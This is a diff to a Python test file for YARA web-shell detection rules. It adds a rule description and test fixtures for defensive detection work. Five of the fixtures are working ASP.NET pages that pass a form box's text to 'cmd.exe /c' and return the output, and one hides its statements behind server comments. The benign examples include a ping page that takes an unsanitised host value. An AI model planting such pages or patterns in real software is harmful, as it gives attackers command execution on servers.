@@ -12,8 +12,17 @@ behaviour analysis has nothing to follow, and ``EXT_WEBSHELL_Interpreter_With_Ba
 
 ``hostname`` is now one of its commands when it follows cmd's ``/c`` or ``/k`` in the literal: a bare
 ``"hostname"`` literal is a common form-field or settings key, so a page that reads such a key and runs its
-own batch file through cmd stays silent. The pages below were written for these tests (nothing is compiled
-or run); they reproduce the shape, not the collected file.
+own batch file through cmd stays silent.
+
+Four command pages of the collection were found by the behaviour analysis only: a text box's value reaches
+cmd's ``/c`` one step away from the ``Arguments`` statement (through a local, a method parameter, or joined
+straight into ``Process.Start("cmd.exe", " /c " + box.Text)``), which
+``EXT_WEBSHELL_Posted_Control_Runs_Program`` does not read. ``EXT_WEBSHELL_Posted_Control_Command_Via_Variable``
+(``data/rules/posted_control_programs.yar``) names a page with a server text control, cmd/PowerShell as the
+program, ``"/c " + name`` and a control's Text/Value read within 1,500 bytes of that join. Pages that run their
+own batch file, a fixed cmd command or a fixed tool with a box's value, or that only write a box's Text, stay
+silent. The pages below were written for these tests (nothing is compiled or run); they reproduce the shapes,
+not the collected files.
 """
 
 from __future__ import annotations
@@ -85,8 +94,124 @@ HOSTNAME_ORDINARY: list[Page] = [
     ),
 ]
 
+
+_VIA_VARIABLE = "EXT_WEBSHELL_Posted_Control_Command_Via_Variable"
+
+_FORM_CS = (
+    '<form runat="server"><asp:TextBox ID="txtArg" runat="server" />'
+    '<asp:Button ID="go" runat="server" Text="Run" OnClick="Go_Click" /></form>\n'
+)
+
+VIA_VARIABLE_PAGES: list[Page] = [
+    (
+        "cs-method-parameter-awen-shape",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
+        "string RunIt(string arg)\n{\n"
+        '    ProcessStartInfo psi = new ProcessStartInfo();\n    psi.FileName = "cmd.exe";\n'
+        '    psi.Arguments = "/c "+arg;\n    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n'
+        "    Process p = Process.Start(psi);\n    return p.StandardOutput.ReadToEnd();\n}\n"
+        "void Go_Click(object sender, EventArgs e)\n{\n"
+        "    Response.Write(Server.HtmlEncode(RunIt(txtArg.Text)));\n}\n</script>\n" + _FORM_CS,
+    ),
+    (
+        "cs-local-from-box-then-start",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "protected void Go_Click(object sender, EventArgs e)\n{\n"
+        "    string command = txtArg.Text;\n"
+        "    var p = new System.Diagnostics.Process();\n"
+        '    p.StartInfo.FileName = "cmd.exe";\n    p.StartInfo.Arguments = "/c " + command;\n'
+        "    p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;\n"
+        "    p.Start();\n    Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\n}\n</script>\n"
+        + _FORM_CS,
+    ),
+    (
+        "cs-box-joined-into-two-argument-start",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Go_Click(object sender, EventArgs e)\n{\n"
+        "    string tmp = System.IO.Path.GetTempFileName();\n"
+        '    var p = System.Diagnostics.Process.Start("cmd.exe", " /c " + txtArg.Text + " > \\"" + tmp + "\\"");\n'
+        "    p.WaitForExit();\n    Output.Text = Server.HtmlEncode(System.IO.File.ReadAllText(tmp));\n}\n</script>\n"
+        + _FORM_CS,
+    ),
+    (
+        "vb-local-from-box",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\n'
+        "Sub Go_Click(s As Object, e As EventArgs)\n"
+        "    Dim c As String = txtArg.Text\n"
+        "    Dim p As New System.Diagnostics.Process()\n"
+        '    p.StartInfo.FileName = "cmd"\n    p.StartInfo.Arguments = "/c " & c\n'
+        "    p.StartInfo.UseShellExecute = False : p.StartInfo.RedirectStandardOutput = True\n"
+        "    p.Start()\n    Output.Text = p.StandardOutput.ReadToEnd()\nEnd Sub\n</script>\n" + _FORM_CS,
+    ),
+    (
+        "cs-server-comments-between-statements",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "string RunIt(string arg)\n{\n<%--q1w2e3r4t5y6u7i8o9p0--%>\n"
+        "var psi = new System.Diagnostics.ProcessStartInfo();\n<%--a1s2d3f4g5h6j7k8l9--%>\n"
+        'psi.FileName = "cmd.exe";\n<%--z1x2c3v4b5n6m7--%>\npsi.Arguments = "/c "+arg;\n<%--p0o9i8u7y6--%>\n'
+        "psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n<%--l1k2j3h4--%>\n"
+        "return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();\n}\n"
+        "void Go_Click(object s, EventArgs e)\n{\n<%--m1n2b3v4--%>\n"
+        "Response.Write(Server.HtmlEncode(RunIt(txtArg.Text)));\n}\n</script>\n" + _FORM_CS,
+    ),
+]
+
+VIA_VARIABLE_ORDINARY: list[Page] = [
+    (
+        "own-batch-through-cmd-note-box-far-away",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Save_Click(object s, EventArgs e) { Notes.Add(txtNote.Text); }\n</script>\n"
+        + "<p>"
+        + "Backups run nightly; ask the administrator before starting one by hand. " * 30
+        + "</p>\n"
+        + '<script runat="server">\nvoid Backup_Click(object s, EventArgs e)\n{\n'
+        '    string bat = Server.MapPath("~/App_Data/backup.bat");\n'
+        '    System.Diagnostics.Process.Start("cmd.exe", "/c " + bat).WaitForExit();\n}\n</script>\n'
+        '<form runat="server"><asp:TextBox ID="txtNote" runat="server" /></form>\n',
+    ),
+    (
+        "fixed-cmd-command-and-a-note-box",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Status_Click(object s, EventArgs e)\n{\n"
+        "    Notes.Add(txtNote.Text);\n"
+        '    var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c iisreset /status");\n'
+        "    i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
+        "    lblStatus.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
+        '<form runat="server"><asp:TextBox ID="txtNote" runat="server" /></form>\n',
+    ),
+    (
+        "ping-tool-with-host-box",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Ping_Click(object s, EventArgs e)\n{\n"
+        '    var i = new System.Diagnostics.ProcessStartInfo("ping.exe", "-n 1 " + txtHost.Text);\n'
+        "    i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
+        "    lblOut.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
+        '<form runat="server"><asp:TextBox ID="txtHost" runat="server" /></form>\n',
+    ),
+    (
+        "batch-output-written-into-box",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Export_Click(object s, EventArgs e)\n{\n"
+        '    string job = Server.MapPath("~/App_Data/export.cmd");\n'
+        '    var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + job);\n'
+        "    i.UseShellExecute = false; i.RedirectStandardOutput = true;\n"
+        "    txtLog.Text = System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
+        '<form runat="server"><asp:TextBox ID="txtLog" runat="server" TextMode="MultiLine" /></form>\n',
+    ),
+]
+
 CASES: list[RuleCase] = [
     (_RULE, HOSTNAME_PROOFS, HOSTNAME_ORDINARY),
+    (_VIA_VARIABLE, VIA_VARIABLE_PAGES, VIA_VARIABLE_ORDINARY),
 ]
 
 (
